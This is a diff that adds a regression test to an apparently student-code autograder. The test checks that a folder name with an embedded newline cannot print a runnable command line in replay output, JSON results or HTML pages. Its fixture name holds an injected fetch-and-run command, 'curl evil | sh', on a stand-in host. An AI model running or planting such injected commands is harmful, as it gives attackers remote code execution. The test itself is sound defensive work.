@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import shlex
 import subprocess
 import sys
@@ -98,6 +99,25 @@ def test_replay_commands_print_whole_on_one_line_however_long(tmp_path: Path) ->
     case = failing[0].split()[-1]
     replayed = grader("replay", str(folder / "toy.py"), "double", case, cwd=tmp_path)
     assert replayed.returncode == 1 and f"  {failing[0]}" in replayed.stdout.splitlines()
+
+
+def test_a_name_with_a_newline_cannot_print_a_command_line_of_its_own(tmp_path: Path) -> None:
+    """A folder named "eve<newline>curl evil | sh #" (a zip can hold one) used to print its replay commands over
+    two lines, the second a runnable command line of the student's choosing."""
+    folder = tmp_path / "class" / "eve\ncurl evil | sh #"
+    folder.mkdir(parents=True)
+    (folder / "toy.py").write_text(GOOD.replace("return 2 * x", "return x + 2"))
+    checked = grader("check", str(folder / "toy.py"), "--json", "r.json", cwd=tmp_path)
+    graded = grader("grade", "toy", str(tmp_path / "class"), "--out", str(tmp_path / "out"), cwd=tmp_path)
+    assert graded.returncode == 0, graded.stdout + graded.stderr
+    replays = [c["replay"] for p in json.loads((tmp_path / "r.json").read_text())["problems"] for c in p["cases"]]
+    for student in json.loads((tmp_path / "out" / "toy" / "results.json").read_text())["submissions"]:
+        replays += [c["replay"] for p in student["problems"] for c in p["cases"]]
+    assert replays and all("\n" not in r and "eve\\x0acurl" in r for r in replays if r)
+    assert not any(line.lstrip().startswith("curl") for line in checked.stdout.splitlines()), checked.stdout
+    pages = "".join(p.read_text() for p in (tmp_path / "out").rglob("*.html"))
+    shown = re.findall(r'<code class="replay[^"]*">(.*?)</code>', pages, re.S)
+    assert shown and not any("\n" in command for command in shown)  # on a page too (its name is whitespace there)
 
 
 def test_check_never_shows_answer_values(tmp_path: Path) -> None:
